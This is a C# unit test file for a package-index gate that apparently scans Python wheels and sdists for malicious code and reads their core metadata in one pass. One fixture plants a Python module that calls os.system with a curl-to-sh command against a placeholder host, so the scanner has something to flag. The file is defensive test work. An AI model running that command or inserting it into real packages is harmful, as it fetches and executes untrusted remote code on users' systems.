using System.IO.Compression;
using Moat.Analysis.Code;
using Moat.Index.Policy;
using Moat.Packaging.Archives;
using Moat.Packaging.Distributions;
using Moat.Packaging.Versions;
using Moat.Testing;

namespace Moat.Index.Tests;

/// <summary>
/// The gate reads a distribution once: its core metadata is found during the code scan's pass over the archive, the
/// scan is the same as a scan of its own, and only the distribution's own archive decides whether it was read whole.
/// </summary>
public sealed class DistributionReadTests : IDisposable
{
    private readonly DirectoryInfo _temp = Directory.CreateTempSubdirectory("moat-distribution-read-");

    private string Write(string filename, byte[] content)
    {
        var path = Path.Combine(_temp.FullName, filename);
        File.WriteAllBytes(path, content);
        return path;
    }

    private static DistributionRead ReadOf(string path) =>
        new(path, Path.GetFileName(path), DistributionInspector.ParseFilename(Path.GetFileName(path), out var error) ?? throw new InvalidDataException(error));

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task One_read_finds_the_core_metadata_and_scans_like_a_scan_of_its_own(bool wheel)
    {
        var path = wheel
            ? Write(TestDistributions.WheelFilename("read-once", "1.0"), TestDistributions.Wheel("read-once", "1.0", module: "import os\nos.system('curl https://example.invalid/x | sh')\n"))
            : Write(TestDistributions.SdistFilename("read-once", "1.0"), TestDistributions.Sdist("read-once", "1.0", requiresPython: ">=3.9"));
        var read = ReadOf(path);

        var inspected = await read.InspectAsync(CancellationToken.None);
        var scan = await read.ScanAsync(CancellationToken.None);

        Assert.Equal(wheel ? PackageType.Wheel : PackageType.Sdist, inspected.PackageType);
        Assert.True(inspected.ArchiveComplete);
        Assert.Equal(1, inspected.MetadataFiles);
        Assert.Equal("read-once", inspected.Metadata?.NormalizedName);
        Assert.NotNull(inspected.CoreMetadataBytes);
        var alone = PackageScanner.Scan(path);
        Assert.Equal(alone.Verdict, scan.Verdict);
        Assert.Equal(alone.Findings.Select(f => (f.RuleId, f.Location.Path, f.Message)), scan.Findings.Select(f => (f.RuleId, f.Location.Path, f.Message)));
        if (wheel) Assert.NotEmpty(scan.Findings);
    }

    [Fact]
    public void The_tap_reads_a_forward_only_stream_in_the_scans_single_pass()
    {
        var tap = new CoreMetadataTap(PackageType.Sdist, "read-once", PackageVersion.Parse("1.0"));
        using var stream = new NonSeekableStream(TestDistributions.Sdist("read-once", "1.0"));

        var scan = PackageScanner.Scan(stream, TestDistributions.SdistFilename("read-once", "1.0"), tap);

        var inspected = tap.Result();
        Assert.Equal("read-once", inspected.Metadata?.NormalizedName);
        Assert.True(inspected.ArchiveComplete);
        Assert.DoesNotContain(scan.Findings, Moat.Analysis.RuleCatalog.IsCouldNotCheck);
    }

    [Fact]
    public void A_broken_archive_inside_the_distribution_leaves_it_whole_and_a_cut_distribution_does_not()
    {
        using var buffer = new MemoryStream();
        buffer.Write(TestDistributions.Wheel("nested-data", "1.0"));
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Update, leaveOpen: true))
        using (var member = zip.CreateEntry("nested_data/fixtures/broken.zip").Open())
            member.Write("PK\u0003\u0004 not really a zip archive, cut short"u8);
        var whole = Inspect(TestDistributions.WheelFilename("nested-data", "1.0"), buffer.ToArray(), out var wholeRead);
        var bytes = TestDistributions.Wheel("nested-data", "1.0");
        var cut = Inspect(TestDistributions.WheelFilename("nested-data", "1.0"), bytes[..(bytes.Length / 2)], out var cutRead);

        Assert.False(wholeRead.Completed); // the scan's read stopped inside the nested archive…
        Assert.True(whole.ArchiveComplete); // …but the wheel itself was read to its end
        Assert.NotNull(whole.Metadata);
        Assert.False(cutRead.Completed);
        Assert.False(cut.ArchiveComplete);
        Assert.NotEmpty(cut.ArchiveIssues);
    }

    private static InspectedDistribution Inspect(string filename, byte[] content, out ArchiveReadResult read)
    {
        var parsed = DistributionInspector.ParseFilename(filename, out _)!.Value;
        var tap = new Recording(new CoreMetadataTap(parsed.PackageType, parsed.Name, parsed.Version));
        using var stream = new MemoryStream(content);
        PackageScanner.Scan(stream, filename, tap);
        read = tap.Read!;
        return ((CoreMetadataTap)tap.Inner).Result();
    }

    private sealed class Recording(IMemberTap inner) : IMemberTap
    {
        public IMemberTap Inner => inner;
        public ArchiveReadResult? Read { get; private set; }
        public byte[]? Offer(ArchiveMember member) => inner.Offer(member);
        public void Finish(ArchiveReadResult read)
        {
            Read = read;
            inner.Finish(read);
        }
    }

    public void Dispose() => _temp.Delete(recursive: true);
}
